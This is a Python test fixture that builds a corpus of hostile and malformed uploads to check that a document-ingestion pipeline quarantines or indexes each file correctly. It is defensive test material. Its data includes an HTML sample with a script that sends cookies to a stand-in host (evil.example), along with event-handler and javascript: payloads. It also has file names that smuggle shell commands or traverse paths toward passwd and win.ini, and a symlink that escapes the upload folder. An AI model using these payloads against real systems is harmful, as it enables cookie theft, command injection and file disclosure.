"""A deterministic corpus of hostile and malformed uploads, written into a folder at test time.

Every entry records what must happen to it: quarantined with a reason code, or indexed (with a
phrase its indexed text must contain). Built from the sample corpus and the helpers in
``fixtures/malformed.py``; the same bytes every run (seeded randomness only).
"""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

from ..conftest import UPLOAD_TIME, set_upload_time
from ..fixtures.malformed import DOCX, PDF, docx_with_body, encrypted_pdf, random_high_bytes

#: The size limit the hostile run uses (HYPERION_MAX_DOCUMENT_BYTES); ``huge.txt`` is over it.
MAX_DOCUMENT_BYTES = 2 * 1024 * 1024
#: Text that sits in scripts, styles and handlers of the hostile HTML and must never be indexed.
SCRIPT_MARKERS = ("EXFILTRATE_COOKIES", "STYLE_SECRET", "ONLOAD_PAYLOAD", "JS_URL_PAYLOAD", "TEMPLATE_SECRET")
#: Text of a file outside the uploads folder, reachable only through a symlink in it.
OUTSIDE_SECRET = "OUTSIDE-THE-UPLOADS-FOLDER root:x:0:0"

#: Not a document at all: a name starting with a dot is a hidden file to the uploads folder (editor
#: swap files, partial uploads), so it is neither indexed nor quarantined.
NOT_LISTED = "not_listed"

GOOD = "Honeybees form a winter cluster and shiver their flight muscles to keep the queen warm. "


@dataclass(frozen=True)
class Entry:
    content: bytes
    reason: str | None  # None: must be indexed; else a reason code, or NOT_LISTED
    phrase: str = ""  # for indexed entries: text the index must hold for this document


def _indexed(text: str, encoding: str = "utf-8") -> Entry:
    return Entry(text.encode(encoding), None, text.strip().split("\n")[0][:40])


def _pdf_garbage_body(seed: int = 11) -> bytes:
    return b"%PDF-1.7\n" + random.Random(seed).randbytes(4096) + b"\n%%EOF\n"


def _elf() -> bytes:
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHI", 2, 0x3E, 1)
    return header + random.Random(3).randbytes(2048)


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(4).randbytes(512)


def _gif() -> bytes:
    """A picture in a format the pipeline does not read (PNG, JPEG and TIFF go to OCR)."""
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + random.Random(5).randbytes(64)


def _zip_bytes(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx_broken_directory() -> bytes:
    """A real DOCX whose central directory records are smashed: the zip cannot be opened."""
    return DOCX.read_bytes().replace(b"PK\x01\x02", b"XX\x01\x02")


def _docx_future_zip_version() -> bytes:
    """One byte changed: the central directory says version 9.4 is needed to extract the body,
    which ``zipfile`` refuses with NotImplementedError (it once escaped media-type sniffing and
    failed the whole partition's landing)."""
    content = bytearray(DOCX.read_bytes())
    header = content.find(b"PK\x01\x02")
    content[header + 6] = 94
    return bytes(content)


def _docx_lying_sizes() -> bytes:
    """A bomb that lies: the directory declares 1 KiB for a body that inflates to 64 MiB.
    ``zipfile`` stops at the declared size and the CRC check fails: corrupt, memory untouched."""
    content = bytearray(docx_with_body(64))
    start = content.find(b"word/document.xml")
    while start >= 0:
        header = content.rfind(b"PK", 0, start)
        signature = bytes(content[header : header + 4])
        if signature == b"PK\x01\x02":  # central directory: uncompressed size at offset 24
            content[header + 24 : header + 28] = struct.pack("<I", 1024)
        elif signature == b"PK\x03\x04":  # local header: uncompressed size at offset 22
            content[header + 22 : header + 26] = struct.pack("<I", 1024)
        start = content.find(b"word/document.xml", start + 1)
    return bytes(content)


def _docx_many_entries() -> bytes:
    with zipfile.ZipFile(DOCX) as src:
        parts = {item.filename: src.read(item) for item in src.infolist()}
    parts.update({f"word/media/pad{i}.bin": b"" for i in range(10_050)})
    return _zip_bytes(parts, zipfile.ZIP_STORED)


def _docx_without_body() -> bytes:
    with zipfile.ZipFile(DOCX) as src:
        return _zip_bytes({i.filename: src.read(i) for i in src.infolist() if i.filename != "word/document.xml"})


_HOSTILE_HTML = b"""<!DOCTYPE html><html><head><title>Rock pools at low tide</title>
<script>document.location='http://evil.example/?c='+document.cookie; // EXFILTRATE_COOKIES</script>
<style>body::after { content: "STYLE_SECRET"; }</style></head>
<body onload="alert('ONLOAD_PAYLOAD')">
<h1 onclick="steal('ONLOAD_PAYLOAD')">Rock pools at low tide</h1>
<p>Anemones close into jelly blobs when the tide leaves them exposed to the air and the sun.</p>
<a href="javascript:alert('JS_URL_PAYLOAD')">a link</a>
<script type="module">import('http://evil.example/EXFILTRATE_COOKIES.js')</script>
<noscript>EXFILTRATE_COOKIES</noscript><template><p>TEMPLATE_SECRET</p></template>
<iframe srcdoc="<script>EXFILTRATE_COOKIES</script>"></iframe>
<svg><script>EXFILTRATE_COOKIES</script></svg>
<p>Periwinkles graze on the thin film of algae that covers the rocks.<!-- EXFILTRATE_COOKIES --></p>
<img src=x onerror="ONLOAD_PAYLOAD"><p>Unclosed paragraph about crabs hiding under weed
</body></html>"""

_ONLY_SCRIPT_HTML = b"<html><head><script>EXFILTRATE_COOKIES()</script></head><body><script>x()</script></body></html>"


def _encodings() -> dict[str, Entry]:
    texts = {
        "utf-8-sig": "UTF-8 with a byte-order mark: crème brûlée, Ærø and ñandú all survive. " * 3,
        "utf-16": "UTF-16 little-endian with a BOM: ünïcödé text survives decoding intact. " * 3,
        "utf-16-be": "UTF-16 big-endian with a BOM: Größe, Straße and Äpfel are German words. " * 3,
        "utf-32": "UTF-32 with a BOM: bees 🐝 and honey 🍯 are outside the basic plane. " * 3,
        "latin-1": "Latin-1 text: la bibliothèque française est fermée le lundi à midi. " * 3,
        "cp1252": "Windows-1252: naïve résumés — “quoted” phrases cost 10 € each. " * 3,
        "cp1251": "Это текст в кодировке Windows-1251 о зимовке пчёл в ульях. " * 4,
        "koi8-r": "Пчёлы зимуют в клубе и согревают друг друга, двигая крыльями. " * 4,
        "shift_jis": "ミツバチは冬の間、巣の中で集まって体を温め合います。" * 5,
        "euc-jp": "東京の図書館は月曜日に休館します。本を返すのを忘れないでください。" * 4,
        "gb18030": "蜜蜂在冬天聚集成团，通过振动翅膀肌肉来保持温暖。" * 5,
        "big5": "蜜蜂在冬天聚集成團，通過振動翅膀肌肉來保持溫暖。" * 5,
        "euc-kr": "꿀벌은 겨울 동안 무리를 지어 날개 근육을 떨며 여왕벌을 따뜻하게 지킵니다. " * 4,
        "iso-8859-7": "Οι μέλισσες σχηματίζουν ένα σμήνος το χειμώνα για να κρατούν τη βασίλισσα ζεστή. " * 3,
    }
    entries = {}
    for encoding, text in texts.items():
        raw = text.encode(encoding)
        if encoding == "utf-16-be":
            raw = b"\xfe\xff" + raw
        entries[f"encodings/{encoding}.txt"] = Entry(raw, None, text.split(". ")[0].split(": ")[0][:24])
    return entries


def _names() -> dict[str, Entry]:
    body = "A note about sea kale, which grows on shingle beaches and tastes of cabbage. " * 2
    names = [
        "names/naïve café 日本語 ملف.txt",
        "names/with  spaces and tabs\t.txt",
        "names/-rf --no-preserve-root.txt",
        "names/--help.md",
        "names/$(touch pwned) `id`;.txt",
        "names/x..%2f..%2fetc%2fpasswd.txt",
        "names/x..\\..\\windows\\win.ini.txt",
        "names/\u202eexe.txt",  # right-to-left override
        "names/" + "l" * 240 + ".txt",  # near the 255-byte file-name limit
        "names/line\nbreak.txt",
    ]
    entries = {name: Entry(f"{name}\n\n{body}".encode(), None, "sea kale") for name in names}
    for hidden in ("names/....txt", "names/..%2f..%2fetc%2fpasswd.txt", "names/..\\..\\win.ini.txt"):
        entries[hidden] = Entry(f"{hidden}\n\n{body}".encode(), NOT_LISTED)
    return entries


def _binaries() -> dict[str, Entry]:
    rng = random.Random(5)
    return {
        "binary/garbage.txt": Entry(rng.randbytes(8192), "mislabelled_type"),
        "binary/garbage.md": Entry(rng.randbytes(8192), "mislabelled_type"),
        "binary/garbage.html": Entry(rng.randbytes(8192), "mislabelled_type"),
        "binary/high-bytes.txt": Entry(random_high_bytes(6000, seed=9), "undecodable"),
        "binary/program.pdf": Entry(_elf(), "mislabelled_type"),
        "binary/photo.pdf": Entry(_gif(), "mislabelled_type"),
        "binary/photo.docx": Entry(_gif(), "mislabelled_type"),
        "binary/broken-scan.png": Entry(_png(), "corrupt"),
    }


def hostile_corpus() -> dict[str, Entry]:
    """Relative upload path -> entry."""
    pdf, docx = PDF.read_bytes(), DOCX.read_bytes()
    corpus = {
        "pdf/encrypted.pdf": Entry(encrypted_pdf(), "encrypted"),
        "pdf/owner-password-only.pdf": Entry(encrypted_pdf(user_password=""), None, "winter cluster"),
        "pdf/truncated.pdf": Entry(pdf[: len(pdf) // 2], "corrupt"),
        "pdf/header-then-garbage.pdf": Entry(_pdf_garbage_body(), "corrupt"),
        "docx/bomb.docx": Entry(docx_with_body(300), "archive_too_large"),
        "docx/bomb-zeros.docx": Entry(docx_with_body(64, fill=b"\x00"), "archive_too_large"),
        "docx/lying-sizes.docx": Entry(_docx_lying_sizes(), "corrupt"),
        "docx/future-zip-version.docx": Entry(_docx_future_zip_version(), "corrupt"),
        "markdown/empty-headings.md": _indexed("Tidal bores\n\n#\n\nA tidal bore runs upriver.\n\n##  \n"),
        "docx/many-entries.docx": Entry(_docx_many_entries(), "archive_too_large"),
        "docx/truncated.docx": Entry(docx[: len(docx) // 2], "corrupt"),
        "docx/broken-directory.docx": Entry(_docx_broken_directory(), "corrupt"),
        "docx/no-body.docx": Entry(_docx_without_body(), "mislabelled_type"),
        "big/huge.txt": Entry((GOOD * (MAX_DOCUMENT_BYTES // len(GOOD) + 10)).encode(), "too_large"),
        "html/hostile.html": Entry(_HOSTILE_HTML, None, "Anemones close into jelly blobs"),
        "html/only-scripts.html": Entry(_ONLY_SCRIPT_HTML, "empty"),
        # Once sniffed as plain text, so its markup and scripts were indexed verbatim.
        "html/utf-16.html": Entry(_HOSTILE_HTML.decode().encode("utf-16"), None, "Anemones close into jelly blobs"),
        "empty/zero.txt": Entry(b"", "empty"),
        "empty/zero.pdf": Entry(b"", "empty"),
        "empty/blank.md": Entry(b" \n\t\n  \r\n", "empty"),
        "empty/bom-only.txt": Entry(b"\xef\xbb\xbf", "empty"),
        "empty/utf16-bom-only.txt": Entry(b"\xff\xfe", "empty"),
        "empty/hi.md": Entry(b"# Hi\n", "near_empty"),
        "empty/private-use-glyphs.txt": Entry(("\ue000\ue001\ue002 " * 300 + "a few words").encode(), "garbage_text"),
        "good/plain.txt": _indexed("Kelp forests shelter young fish from predators.\n\n" + GOOD * 3),
        "good/notes.md": _indexed("# Sea otters\n\nSea otters crack urchins on their bellies with stones.\n" * 2),
        **_encodings(),
        **_names(),
        **_binaries(),
    }
    return corpus


def write_corpus(folder: Path, *, outside: Path | None = None) -> dict[str, Entry]:
    """Write the corpus under ``folder`` (upload time: the test day); returns what was written.
    Names the file system refuses are left out. With ``outside``, also plant a symlink in the
    folder to a file beyond it (a source must never follow it) and a hidden file."""
    written = {}
    for relative, entry in hostile_corpus().items():
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            path.write_bytes(entry.content)
        except OSError:
            continue
        set_upload_time(path)
        written[relative] = entry
    if outside is not None:
        secret = outside / "passwd"
        secret.write_text((OUTSIDE_SECRET + "\n") * 8, encoding="utf-8")
        link = folder / "links" / "passwd.txt"
        link.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(secret, link)
        os.utime(link, (UPLOAD_TIME.timestamp(),) * 2, follow_symlinks=False)
        hidden = folder / ".hidden.txt"
        hidden.write_text(OUTSIDE_SECRET * 4, encoding="utf-8")
        set_upload_time(hidden)
    return written
